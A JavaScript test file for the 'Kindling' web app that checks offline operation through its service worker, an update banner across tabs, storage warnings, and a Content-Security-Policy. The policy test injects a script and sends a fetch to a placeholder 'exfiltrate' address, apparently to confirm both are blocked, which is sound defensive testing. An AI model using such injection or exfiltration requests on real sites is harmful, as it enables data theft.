// Offline and private: the service worker keeps the whole app after one visit, a new build is
// offered with "reload to update", the page's policy refuses script and requests from anywhere
// else, and the browser's storage is asked to persist, measured, and warned about when full.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DIST, startApp, trainRun } from './kindling.mjs';

let app;
before(async () => {
  app = await startApp();
});
after(async () => {
  await app?.close();
});

/** Waits until this build's service worker has cached everything and controls the page. */
async function installed(page) {
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) {
      await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true }));
    }
  });
}

test('after one visit the whole workflow works with the server gone: data, train, register, download', async () => {
  const offline = await startApp();
  try {
    const page = await offline.newPage();
    await page.goto(offline.url);
    await installed(page);
    await offline.stopServer();
    await page.context().setOffline(true);

    await page.reload();
    await page.goto(new URL('/data', offline.url).href);
    await page.getByRole('heading', { name: 'Data' }).waitFor();
    await trainRun(page, offline.url, { Dataset: 'iris', 'Run name': 'offline-run', Epochs: 30 });
    await page.goto(new URL('/runs', offline.url).href);
    await page.getByRole('link', { name: 'offline-run', exact: true }).click();
    await page.locator('#register-model').fill('offline-model');
    await page.locator('#validate-run').click();
    await page.locator('.verdict').waitFor();
    await page.locator('#register-run').click();
    await page.locator('.registered a').click();
    const [file] = await Promise.all([page.waitForEvent('download'), page.locator('#download-package').click()]);
    assert.match(file.suggestedFilename(), /^offline-model-v1\.kindling\.zip$/);
    assert.ok(readFileSync(await file.path()).length > 1000, 'a whole package was downloaded');
    assert.deepEqual(page.errors, []);
  } finally {
    await offline.close();
  }
});

test('a new build is offered with "reload to update", and reloading moves the tab onto it', async () => {
  const page = await app.newPage();
  await page.goto(app.url);
  await installed(page);
  assert.equal(await page.locator('.update-banner').count(), 0, 'the first visit is not an update');
  const before = await page.evaluate(() => caches.keys());
  assert.equal(before.length, 1);
  // A second tab of the same profile, already on this build.
  const other = await page.context().newPage();
  other.errors = [];
  other.on('pageerror', (error) => other.errors.push(error.message));
  await other.goto(new URL('/runs', app.url).href);
  await other.getByRole('heading', { name: 'Runs' }).waitFor();

  const worker = readFileSync(join(DIST, 'sw.js'), 'utf8');
  const build = worker.match(/const BUILD = '([0-9a-f]+)';/)[1];
  app.override('/sw.js', worker.replace(`const BUILD = '${build}'`, `const BUILD = '${build}-next'`));
  await page.evaluate(() => navigator.serviceWorker.getRegistration().then((registration) => registration.update()));
  const banner = page.locator('.update-banner');
  await banner.getByText('A new version of Kindling is ready').waitFor({ timeout: 60_000 });

  await Promise.all([page.waitForEvent('load'), banner.getByRole('button', { name: 'Reload to update' }).click()]);
  await page.getByRole('heading', { name: 'Train a model' }).waitFor();
  assert.deepEqual(await page.evaluate(() => caches.keys()), [`kindling-${build}-next`], 'only the new build is kept');
  assert.equal(await page.locator('.update-banner').count(), 0);
  // The other tab did not ask, and is told that it now runs the old version.
  const told = other.locator('.update-banner', { hasText: 'Kindling was updated in another tab' });
  await told.waitFor();
  await Promise.all([other.waitForEvent('load'), told.getByRole('button', { name: 'Reload to update' }).click()]);
  await other.getByRole('heading', { name: 'Runs' }).waitFor();
  assert.equal(await other.locator('.update-banner').count(), 0);
  app.override('/sw.js', null);
  assert.deepEqual(page.errors, []);
  assert.deepEqual(other.errors, []);
});

test('the page allows script only from its own build and refuses anything injected', async () => {
  const page = await app.newPage();
  await page.goto(app.url);
  await page.getByRole('heading', { name: 'Train a model' }).waitFor();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, / 'unsafe-eval'/);

  const outcome = await page.evaluate(async () => {
    const refused = new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }));
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.head.append(script);
    const fetched = await fetch('http://192.0.2.1/exfiltrate').then(() => 'sent', () => 'refused');
    return { ran: window.__injected === true, directive: await refused, fetched };
  });
  assert.deepEqual(outcome, { ran: false, directive: 'script-src-elem', fetched: 'refused' });
});

test('the data is asked to persist, the space used is shown, and a nearly full store is warned about', async () => {
  const page = await app.newPage();
  await page.goto(app.url);
  await page.locator('.storage-use').filter({ hasText: /used/ }).waitFor();
  assert.match(await page.locator('.storage-use').textContent(), /^Storage: [\d.]+ (B|kB|MB|GB) of [\d.]+ (kB|MB|GB|TB) used/);
  assert.equal(await page.locator('.storage-banner').count(), 0);

  const full = await app.newPage();
  await full.addInitScript(() => {
    const quota = 2_000_000_000;
    navigator.storage.estimate = async () => ({ usage: quota * 0.93, quota });
  });
  await full.goto(app.url);
  const warning = full.locator('.storage-banner', { hasText: 'Storage is 93% full' });
  await warning.waitFor();
  assert.match(await warning.textContent(), /1\.9 GB of 2\.0 GB used\)\. Export your workspace/);
});
